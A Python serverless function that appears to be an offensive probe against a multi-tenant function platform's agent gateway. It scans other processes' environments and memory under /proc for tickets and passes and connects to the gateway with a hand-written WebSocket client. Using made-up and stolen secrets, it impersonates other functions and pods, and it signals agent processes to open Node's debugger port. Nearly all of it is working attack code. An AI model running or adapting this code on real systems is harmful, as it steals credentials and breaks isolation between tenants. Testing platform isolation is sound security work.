"""Dials the agents' port with everything that can be read in its pod, and tells what it was given."""

import base64
import glob
import json
import os
import re
import signal
import socket
import struct
import time

TOKEN = "/var/run/secrets/kappa.dev/gateway/token"
HELLO, INVOKE, ASSIGN, WELCOME = 1, 6, 3, 2


def readable_environments():
    """Variables of every process that can be looked into."""
    found = {}
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                for pair in file.read().split(b"\0"):
                    name, _, value = pair.partition(b"=")
                    found.setdefault(name.decode(errors="replace"), value.decode(errors="replace"))
        except OSError:
            pass
    return found


def secrets_in_memory():
    """What looks like a ticket or a pass in the memory of other processes, where that can be read: 20 characters of base64url and more."""
    found = set()
    for maps in glob.glob("/proc/[0-9]*/maps"):
        pid = maps.split("/")[2]
        if pid == str(os.getpid()):
            continue
        try:
            with open(maps) as regions, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for region in regions:
                    span, mode = region.split()[:2]
                    start, end = (int(part, 16) for part in span.split("-"))
                    if "w" not in mode or end - start > 64 << 20:
                        continue
                    try:
                        memory.seek(start)
                        content = memory.read(end - start)
                    except (OSError, ValueError):
                        continue
                    for match in re.finditer(rb'"(?:ticket|pass)":"([A-Za-z0-9_=-]{16,128})"', content):
                        found.add(match.group(1).decode())
        except OSError:
            pass
    return sorted(found)


def agents():
    """Process ids of the agent, by its command line, which everybody may read."""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with open(path, "rb") as file:
            words = file.read().split(b"\0")
        if b"/kappa/agent.cjs" in words and words[0] != b"/kappa/init":
            yield int(path.split("/")[2])


def opened_of(pid):
    """What of a process can be looked into."""
    found = []
    for name in ("environ", "maps", "mem", "fd"):
        try:
            os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
            found.append(name)
        except PermissionError:
            pass
    return found


def debugger_of(pid):
    """Whether Node's debugger listens after the signal that asks for it."""
    os.kill(pid, signal.SIGUSR1)
    time.sleep(1)
    with socket.socket() as debugger:
        return debugger.connect_ex(("127.0.0.1", 9229)) == 0


class Gateway:
    """A WebSocket (RFC 6455) to a gateway, by hand: functions have no library for it."""

    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host.strip("[]"), int(port)), timeout=5)
        key = base64.b64encode(os.urandom(16)).decode()
        self.socket.sendall(
            f"GET /v1/connect HTTP/1.1\r\nHost: {address}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode()
        )
        head = b""
        while b"\r\n\r\n" not in head:
            byte = self.socket.recv(1)
            if not byte:
                raise ConnectionError("closed in the handshake")
            head += byte
        if b" 101 " not in head.split(b"\r\n")[0]:
            raise ConnectionError(head.split(b"\r\n")[0].decode())

    def send(self, kind, header, body=b""):
        text = json.dumps(header).encode()
        payload = bytes([kind]) + struct.pack(">I", len(text)) + text + body
        mask = os.urandom(4)
        masked = bytes(byte ^ mask[i % 4] for i, byte in enumerate(payload))
        length = len(payload)
        size = bytes([0x80 | length]) if length < 126 else bytes([0x80 | 126]) + struct.pack(">H", length)
        self.socket.sendall(b"\x82" + size + mask + masked)

    def _exactly(self, count):
        data = b""
        while len(data) < count:
            piece = self.socket.recv(count - len(data))
            if not piece:
                raise ConnectionError("closed")
            data += piece
        return data

    def receive(self):
        """A frame as (type, header), or ("close", code)."""
        while True:
            first, second = self._exactly(2)
            length = second & 0x7F
            if length == 126:
                (length,) = struct.unpack(">H", self._exactly(2))
            elif length == 127:
                (length,) = struct.unpack(">Q", self._exactly(8))
            payload = self._exactly(length)
            opcode = first & 0x0F
            if opcode == 8:
                return "close", struct.unpack(">H", payload[:2])[0]
            if opcode == 2:
                (size,) = struct.unpack(">I", payload[1:5])
                return payload[0], json.loads(payload[5 : 5 + size])


def attempt(address, hello, seconds):
    """Says hello and listens. Returns what came: types of frames with the function they speak of, and the close code."""
    came = []
    try:
        gateway = Gateway(address)
        gateway.socket.settimeout(seconds)
        gateway.send(HELLO, hello)
        while True:
            kind, content = gateway.receive()
            if kind == "close":
                came.append({"close": content})
                return came
            entry = {"frame": kind}
            for member in ("functionName", "invokedFunctionArn", "ticket", "assignmentId"):
                if member in content:
                    entry[member] = content[member]
            came.append(entry)
    except (OSError, ConnectionError) as error:
        came.append({"ended": type(error).__name__})
        return came


def handler(event, context):
    variables = readable_environments()
    with open(TOKEN) as file:
        token = file.read().strip()
    addresses = [a for a in variables.get("KAPPA_GATEWAY_ADDRESSES", "").split(",") if a] + event.get("addresses", [])
    mine = {
        "protocol": event["protocol"],
        "token": token,
        "podName": variables["POD_NAME"],
        "namespace": variables["POD_NAMESPACE"],
        "runtime": "python3.11",
    }
    stolen = secrets_in_memory()
    hellos = {
        "as a pooled agent": {**mine, "state": "unassigned"},
        "as a pooled agent that warms up": {**mine, "state": "warming"},
        "with a ticket made up": {**mine, "state": "unassigned", "ticket": "A" * 43},
        "as another function": {**mine, "state": "assigned", "assignmentId": event["victim"]},
        "as another function with a pass made up": {**mine, "state": "assigned", "assignmentId": event["victim"], "pass": "A" * 43},
        "as another pod": {**mine, "podName": event["victimPod"], "state": "assigned", "assignmentId": event["victim"]},
        "without a token": {**mine, "token": "none", "state": "unassigned"},
    }
    for i, secret in enumerate(stolen):
        hellos[f"with stolen secret {i} as ticket"] = {**mine, "state": "unassigned", "ticket": secret}
        hellos[f"as another function with stolen secret {i}"] = {
            **mine,
            "state": "assigned",
            "assignmentId": event["victim"],
            "pass": secret,
        }
    results = {}
    for address in sorted(set(addresses)):
        for what, hello in hellos.items():
            results[f"{what} at {address}"] = attempt(address, hello, event["seconds"])
        results[f"a package at {address}"] = [{"status": download(address, token, event["package"])}]
    looked_into = {pid: {"opened": opened_of(pid), "debugger": debugger_of(pid)} for pid in agents()}
    return {"addresses": sorted(set(addresses)), "stolen": len(stolen), "results": results, "agents": list(looked_into.values())}


def download(address, token, sha256):
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host.strip("[]"), int(port)), timeout=5) as connection:
        connection.sendall(
            f"GET /v1/packages/{sha256} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n".encode()
        )
        return int(connection.recv(64).split(b" ")[1])
